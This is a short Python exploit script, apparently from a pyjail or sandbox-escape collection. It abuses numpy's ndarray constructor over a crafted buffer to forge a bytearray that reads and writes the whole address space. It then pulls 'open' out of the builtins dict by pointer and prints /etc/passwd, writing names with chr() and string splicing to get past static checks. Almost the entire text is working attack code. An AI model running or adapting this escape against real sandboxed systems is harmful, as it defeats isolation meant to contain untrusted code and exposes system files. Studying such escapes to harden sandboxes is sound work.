# source: "fake object / arbitrary R/W from a forged bytearray" technique of pyjail write-ups
#         url: https://github.com/numpy/numpy/issues/6811 ; https://github.com/numpy/numpy/issues/12105
#         (e.g. the numpy object-array-over-buffer escape sandexec README, "The static check", cites, np.ndarray((1,), object, b)[0]),
#         and HackTricks' note that any way to turn an address into an object is an escape.
# family: ndarray.__new__ read off an INSTANCE (np.empty(1).__new__) with a buffer -> object array over bytes
#         the script wrote; address leaks via object.__repr__ and hash(type); forged bytearray with
#         ob_start=0, size=2**63-1 = read/write of the whole address space -> builtins dict by pointer.
# goal: print.__self__ (builtins) -> its dict -> open -> reads /etc/passwd.
import numpy as np


def addr_of(o):
    r = object.__repr__(o)
    return int(r.rsplit(" ", 1)[1][:-1], 16)


def q(n):
    return n.to_bytes(8, "little")


mask = (1 << 64) - 1
h = hash(bytearray) & mask
ba_type = ((h << 4) | (h >> 60)) & mask
fake = q(1 << 40) + q(ba_type) + q((1 << 63) - 1) + q((1 << 63) - 1) + q(0) + q(0) + q(0)
fake_addr = addr_of(fake) + 32
buf = bytearray(q(fake_addr))
arr = np.empty(1).__new__(np.ndarray, (1,), object, buf)
mem = arr[0]
print(type(mem), len(mem) > 10 ** 12)


def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")


bmod = rd(addr_of(print) + 24)
bdict = rd(bmod + 16)
buf[0:8] = q(bdict)
d = arr[0]
fo = d["op" + "en"]
print(fo(chr(47) + "etc" + chr(47) + "passwd").read())
buf[0:8] = q(0)
